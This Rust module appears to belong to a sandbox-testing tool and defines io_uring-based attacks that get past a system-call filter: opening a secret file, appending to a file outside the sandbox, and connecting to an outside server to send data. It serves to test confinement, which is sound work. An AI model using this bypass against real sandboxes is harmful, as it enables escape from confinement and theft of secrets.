//! Attempts by io_uring: the kernel does the work, so that a filter of system calls sees none of it.

use std::fs::File;
use std::io::Write;
use std::os::fd::AsRawFd;

use super::network::{Address, socket};
use super::{Attack, Evidence, Run, outside_file, read_all, secret_file};
use crate::outcome::{At, Stop};
use crate::sys::{self, Ring};

const OPENAT: u8 = 18;
const CONNECT: u8 = 16;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "uring-make",
        says: "Makes a ring of requests.",
        evidence: Evidence::Claim,
        run: Run::Do(|_| Ring::new().at("io_uring_setup").map(|_| "made".to_owned())),
    },
    Attack {
        name: "uring-read",
        says: "Opens a secret by io_uring.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| read_all(open(&secret_file(targets)?, libc::O_RDONLY)?)),
    },
    Attack {
        name: "uring-write",
        says: "Opens a file outside for writing by io_uring.",
        evidence: Evidence::Changed,
        run: Run::Do(|targets| {
            let mut file = open(&outside_file(targets)?, libc::O_WRONLY | libc::O_APPEND)?;
            file.write_all(b"attacked\n").at("write")?;
            Ok("written".to_owned())
        }),
    },
    Attack {
        name: "uring-connect",
        says: "Connects to a server outside by io_uring.",
        evidence: Evidence::Reached,
        run: Run::Do(|targets| {
            let socket = socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            let address = Address::of(targets.text_of("server-v4")?)?;
            let mut ring = Ring::new().at("io_uring_setup")?;
            let bytes = address.bytes();
            ring.request(CONNECT, socket.as_raw_fd(), bytes.len() as u64, bytes.as_ptr() as u64, [0, 0])
                .at("connect")?;
            File::from(socket).write_all(targets.text_of("word")?.as_bytes()).at("write")?;
            Ok("connected".to_owned())
        }),
    },
];

fn open(path: &std::path::Path, flags: libc::c_int) -> Result<File, Stop> {
    let path = sys::c_path(path).at("path")?;
    let mut ring = Ring::new().at("io_uring_setup")?;
    let flags = flags.cast_unsigned();
    let fd = ring.request(OPENAT, libc::AT_FDCWD, 0, path.as_ptr() as u64, [0, flags]).at("open")?;
    sys::inherited(fd).map(File::from).ok_or_else(|| Stop::blocked("no descriptor"))
}
